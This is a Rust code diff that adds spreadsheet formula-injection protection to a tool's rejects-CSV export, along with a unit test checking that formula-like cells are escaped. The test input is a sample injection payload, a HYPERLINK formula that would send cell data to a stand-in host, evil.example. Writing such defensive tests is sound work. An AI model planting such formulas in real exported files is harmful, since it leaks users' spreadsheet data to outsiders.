@@ -162,20 +162,22 @@ pub fn years_needed(
     Ok((years.into_iter().collect(), odd))
 }
 
-/// The rejects file: `line,course_code,column,reason`.
+/// The rejects file: `line,course_code,column,reason`. People open it in a spreadsheet, so
+/// every cell is neutralised ([`crate::csv_safe`]): export values that look like formulas stay text.
 pub fn rejects_csv(rejects: &[RowReject]) -> Result<Vec<u8>, StepError> {
     let fail = |e: csv::Error| StepError::OutputFailed(std::io::Error::other(e));
     let mut w = csv::Writer::from_writer(Vec::new());
     w.write_record(["line", "course_code", "column", "reason"])
         .map_err(fail)?;
     for r in rejects {
-        w.write_record([
-            r.line.to_string().as_str(),
+        let line = r.line.to_string();
+        let cells = [
+            line.as_str(),
             &r.course_code,
             r.column.unwrap_or_default(),
             &r.reason,
-        ])
-        .map_err(fail)?;
+        ];
+        crate::csv_safe::write_record(&mut w, &cells).map_err(fail)?;
     }
     w.into_inner()
         .map_err(|e| StepError::OutputFailed(std::io::Error::other(e.to_string())))
@@ -309,6 +311,23 @@ mod tests {
         assert_eq!(
             text,
             "line,course_code,column,reason\n7,2026Fall-X-ENG101-1,SLN,\"not a number, \"\"x\"\"\"\n"
+        );
+    }
+
+    #[test]
+    fn rejects_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas() {
+        let csv = rejects_csv(&[RowReject {
+            line: 9,
+            course_code: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into(),
+            column: Some("TERM"),
+            reason: "-empty TERM".into(),
+        }])
+        .unwrap();
+        let text = String::from_utf8(csv).unwrap();
+        assert_eq!(
+            text,
+            "line,course_code,column,reason\n\
+             9,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",TERM,'-empty TERM\n"
         );
     }
 
